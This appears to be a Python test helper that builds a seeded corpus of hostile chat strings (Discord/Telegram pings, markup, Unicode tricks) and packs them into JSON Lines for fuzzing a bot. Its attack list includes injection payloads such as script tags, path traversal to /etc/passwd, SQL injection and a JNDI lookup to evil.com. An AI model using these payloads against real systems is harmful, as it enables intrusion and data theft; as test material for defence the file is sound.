"""Texts that try to come alive on a platform, and a pack that is full of them.

The attacks are the classes of pings, links, commands, markup and unseen characters that Discord's
and Telegram's clients act on; `hostile_texts` mixes them with words, seeded, so that each run has
the same ones.
"""

from __future__ import annotations

import json
from pathlib import Path
from random import Random

ATTACKS = """
@everyone|@here|<@100000000000000001>|<@!100000000000000001>|<@&100000000000000002>
<#100000000000000003>|</ban:100000000000000004>|</onthisday:1>|<t:1700000000:R>
<:smile:1234567890>|<a:wave:1234567890>|:smile:|:skull_crossbones:|<id:customize>
<https://evil.example/x>|https://evil.example|http://evil.example/a?b=c
HTTPS://EVIL.EXAMPLE|[bank](https://evil.example)|[a](<https://evil.example>)
[bank](https://evil.example "t")|discord.gg/abcdef|https://discord.gg/abcdef
discord.com/invite/abcdef|**bold**|*it*|__under__|_it_|~~gone~~|`code`|``` fence ```
```py x```|||spoiler|||> quote|>>> all|# head|## head|-# small|- list|* list|1. list
12) list|+ list|\\|\\\\|\\*|**|*|_|`|```|@admin|@daybook_bot|@a_user_name|/ban|/start
/ban@other_bot|/stop now|#tag|#history2024|$USD|$AAPL|evil.com|www.evil.com
evil.org/path|sub.evil.net|evil.com:8080/x|t.me/evil|https://t.me/evil|tg://user?id=1
tg://resolve?domain=x|mailto:a@evil.com|a@evil.com|first.last@evil.co.uk
javascript:alert(1)|file:///etc/passwd|ftp://evil.com|+1 202 555 0142|+442071838750
4111 1111 1111 1111|127.0.0.1|192.168.1.1:80/x|bücher.de|пример.рф|<b>bold</b>|<i>|</b>
<a href="https://evil.example">x</a>|<script>alert(1)</script>
<tg-spoiler>x</tg-spoiler>|<code>|&lt;b&gt;|&amp;|&#64;everyone|&|<|>|"|'|_*[]()~`>#+-=
{}.!|\u202eevil|\u2066x\u2069|\u200b@everyone|@\u200beveryone|\ufeff# head|\u2060/ban
\u00ad@here|e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301|😀@everyone😀|👩‍👩‍👧
🏴\U000e0067\U000e0062\U000e007f|％ｅｖｅｒｙｏｎｅ|＠everyone|ﬀ|İ|ß|نص عربي|עברית|ประวัติ|歴史
\u3000# x|\u2028# x|NEAR(a b)|"unclosed|col:x|{title} : a|^a|a*|' OR 1=1 --
../../etc/passwd|%s%s%n|{0}|${x}|{{x}}|${jndi:ldap://evil.com}
""".strip()

WORDS = "the on of 21 August 1940 who was Ada Veyl ship treaty in and born founded a".split()

_REFUSED = dict.fromkeys(map(ord, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))
"""What a pack may not hold."""

MARKS = ["", " ", " ", "  ", "-", ".", ",", ":", "/", "(", "\u200b", "\u2060"]


def attacks() -> list[str]:
    """Return every attack once."""
    found = [part for line in ATTACKS.splitlines() for part in line.split("|")]
    return list(dict.fromkeys(filter(str.strip, [*found, "||spoiler||", "|"])))


def hostile_texts(count: int, seed: int, longest: int = 180) -> list[str]:
    """Return so many different texts: each attack alone first, then mixtures with words."""
    random = Random(seed)
    known = attacks()
    texts = dict.fromkeys(text for text in known if len(text) <= longest)
    while len(texts) < count:
        parts: list[str] = []
        for _ in range(random.randint(1, 5)):
            parts += (random.choice(known), random.choice(MARKS))
            if random.random() < 0.5:
                parts += (random.choice(WORDS), random.choice(MARKS))
        text = "".join(parts).strip()
        if text and len(text) <= longest:
            texts[text] = None
    return list(texts)[:count]


def write_hostile_pack(file: Path, texts: list[str]) -> list[str]:
    """Write a pack of JSON Lines in which these texts are titles, sections, names and events.

    Return the names.

    A third of the texts each is: names of people and things with their descriptions, events on all
    days of the year, and titles and sections of sources.
    """
    texts = list(dict.fromkeys(text.translate(_REFUSED) for text in texts))
    third = len(texts) // 3
    names, events, titles = texts[:third], texts[third : 2 * third], texts[2 * third :]
    lines: list[dict[str, object]] = [
        {"type": "pack", "id": "hostile", "title": "@everyone https://evil.example /ban #x"}
    ]
    lines += [
        {"type": "source", "id": f"s{number}", "title": text, "author": text, "publisher": text}
        for number, text in enumerate(titles)
    ]
    lines += [
        {
            "type": "entity",
            "id": f"n{number}",
            "kind": ("person", "work", "place")[number % 3],
            "name": text,
            "aliases": [events[number]],
            "description": f"{titles[number % len(titles)]} {text}"[:300],
            "text": " ".join((text, events[number], text)),
            "note": text,
            "source": f"s{number % len(titles)}",
            "section": [titles[(number + 1) % len(titles)]],
        }
        for number, text in enumerate(names)
    ]
    lines += [
        {
            "type": "event",
            "id": f"e{number}",
            "date": f"{1800 + number % 200}-{number % 12 + 1:02}-{number % 28 + 1:02}",
            "text": text,
            "note": text,
            "people": [names[number % len(names)]],
            "source": f"s{number % len(titles)}",
            "section": [text],
        }
        for number, text in enumerate(events)
    ]
    file.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return names
